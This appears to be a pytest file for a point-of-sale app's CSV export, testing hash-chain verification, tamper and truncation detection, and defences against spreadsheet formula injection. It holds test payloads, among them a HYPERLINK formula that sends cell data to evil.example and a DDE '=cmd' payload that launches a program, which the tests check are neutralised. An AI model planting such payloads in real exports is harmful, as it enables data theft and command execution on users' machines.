"""CSV export, and checking an export on its own."""

from __future__ import annotations

import csv
import io

import pytest

from pos_app.storage import (
    COLUMNS,
    CSV_COLUMNS,
    ChainProblem,
    Journal,
    JournalFormatError,
    export_csv,
    export_table_csv,
    verify_csv,
)
from tests.storage.helpers import MANAGER, collect


def _export(journal: Journal) -> str:
    out = io.StringIO(newline="")
    export_csv(journal, out)
    return out.getvalue()


def _rows(text: str) -> list[dict[str, str]]:
    """The data rows of an export (without its end line)."""
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[-1]["id"].startswith("# end of export: ")
    return rows[:-1]


def test_export_has_every_column_of_every_row(journal: Journal) -> None:
    pickup = collect(journal, 1, title='Mug "XL", blue\nsecond line')
    reverse = journal.begin_reverse(
        collect_operation_id=pickup.operation_id,
        reason="other",
        note="Zürich; ünïcödé",
        staff=MANAGER,
    )
    journal.record_event("pin_lockout")
    out = io.StringIO(newline="")
    assert export_csv(journal, out) == 4
    text = out.getvalue()

    header = next(csv.reader(io.StringIO(text, newline="")))
    assert header == list(CSV_COLUMNS)
    assert header[: len(COLUMNS)] == list(COLUMNS)
    rows = _rows(text)
    stored = list(journal.raw_rows())
    assert len(rows) == len(stored) == 4
    for row, raw in zip(rows, stored, strict=True):
        for name in COLUMNS:
            assert row[name] == ("" if raw[name] is None else str(raw[name]))
    assert rows[0]["recorded_at"] == "2026-05-09T09:00:00.000000+00:00"
    assert rows[0]["reward_title"] == 'Mug "XL", blue\nsecond line'
    assert [row["state"] for row in rows] == ["pending", "confirmed", "pending", ""]
    assert [row["pickup_reference"] for row in rows] == [pickup.reference, pickup.reference, "", ""]
    assert rows[2]["operation_id"] == reverse.operation_id
    assert rows[2]["note"] == "Zürich; ünïcödé"


def test_an_export_verifies_on_its_own(journal: Journal) -> None:
    pickup = collect(journal, 1, title='Mug, "XL"\r\nline two')
    journal.begin_reverse(collect_operation_id=pickup.operation_id, reason="damaged")
    journal.record_event("pin_lockout", note="")
    result = verify_csv(io.StringIO(_export(journal), newline=""))
    assert (result.ok, result.rows_checked) == (True, 4)
    assert result.head_hash == journal.verify().head_hash


def test_an_altered_export_is_caught(journal: Journal) -> None:
    for n in range(1, 4):
        collect(journal, n)
    text = _export(journal)

    changed = text.replace("red-2", "red-9")
    result = verify_csv(io.StringIO(changed, newline=""))
    assert (result.broken_row_id, result.problem) == (4, ChainProblem.HASH_MISMATCH)

    lines = text.splitlines(keepends=True)
    without_row_3 = "".join(lines[:3] + lines[4:])
    result = verify_csv(io.StringIO(without_row_3, newline=""))
    assert (result.broken_row_id, result.problem) == (4, ChainProblem.GAP)

    # The derived reference column is not part of the chain.
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    rows[0]["pickup_reference"] = "PU-00000000"
    out = io.StringIO(newline="")
    writer = csv.DictWriter(out, fieldnames=CSV_COLUMNS)
    writer.writeheader()
    writer.writerows(rows)
    assert verify_csv(io.StringIO(out.getvalue(), newline="")).ok


def test_something_else_is_not_an_export() -> None:
    with pytest.raises(JournalFormatError, match=r"columns .* are missing"):
        verify_csv(io.StringIO("name,price\nmug,3\n"))
    with pytest.raises(JournalFormatError, match="missing"):
        verify_csv(io.StringIO(""))
    header = ",".join(CSV_COLUMNS)
    with pytest.raises(JournalFormatError, match="no valid row id"):
        verify_csv(io.StringIO(f"{header}\nx{',' * (len(CSV_COLUMNS) - 1)}\n"))


#: Beginnings that make a spreadsheet read a cell as a formula (OWASP's list: = + - @ TAB CR),
#: the line feed some importers treat like CR, the full-width forms some spreadsheets fold
#: to the ASCII ones, a formula behind spaces (importers that trim), and the quote itself
#: (so that the added quote can always be told from one that was there).
DANGEROUS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\uff1d",
    "\uff0b",
    "\uff0d",
    "\uff20",
    "  =",
    "'",
)


def test_formulas_are_neutralised_and_the_export_still_verifies(journal: Journal) -> None:
    assert len(DANGEROUS) == 13
    payload = 'HYPERLINK("http://evil.example/?"&A1,"Click")'
    for n, start in enumerate(DANGEROUS, start=1):
        pickup = collect(journal, n, title=f"{start}{payload}")
        journal.begin_reverse(
            collect_operation_id=pickup.operation_id, reason="other", note=f"{start}1+1"
        )
    text = _export(journal)
    rows = _rows(text)
    titles = [row["reward_title"] for row in rows if row["kind"] == "collect"]
    notes = [row["note"] for row in rows if row["kind"] == "reverse"]
    assert len(titles) == 2 * 13
    assert len(notes) == 13
    for n, start in enumerate(DANGEROUS):
        assert titles[2 * n] == f"'{start}{payload}"
        assert notes[n] == f"'{start}1+1"
    # Every text cell, not just the titles and notes: no cell begins a formula.
    for row in rows:
        for name, cell in row.items():
            assert not cell or cell[0] not in "=+-@\t\r\n\uff1d\uff0b\uff0d\uff20", (name, cell)
    # The quote comes off again for checking: the export still proves the journal.
    result = verify_csv(io.StringIO(text, newline=""))
    assert (result.ok, result.rows_checked) == (True, 3 * 13)
    assert result.head_hash == journal.verify().head_hash


def test_an_export_cut_short_is_caught(journal: Journal) -> None:
    for n in range(1, 4):
        collect(journal, n)
    lines = _export(journal).splitlines(keepends=True)
    assert lines[-1].startswith("# end of export: 6 rows with last hash ")

    without_last_row = "".join(lines[:-2] + lines[-1:])
    result = verify_csv(io.StringIO(without_last_row, newline=""))
    assert not result.ok
    assert result.problem is ChainProblem.CUT_SHORT
    assert result.describe() == (
        "Journal cut short: it says it has 6 rows but ends after row 5; the 5 rows it has "
        "are intact"
    )
    with pytest.raises(JournalFormatError, match="no end line"):
        verify_csv(io.StringIO("".join(lines[:-1]), newline=""))
    with pytest.raises(JournalFormatError, match="after its end line"):
        verify_csv(io.StringIO("".join(lines + lines[1:2]), newline=""))


def test_a_table_is_exported_with_safe_cells_and_an_end_line() -> None:
    out = io.StringIO()
    count = export_table_csv(
        ["Reward", "Customer"], [["=cmd|' /C calc'!A0", "Robin V."], ["Mug", None]], out
    )
    assert count == 2
    lines = list(csv.reader(io.StringIO(out.getvalue())))
    assert lines == [
        ["Reward", "Customer"],
        ["'=cmd|' /C calc'!A0", "Robin V."],
        ["Mug", ""],
        ["# end of export: 2 rows", ""],
    ]
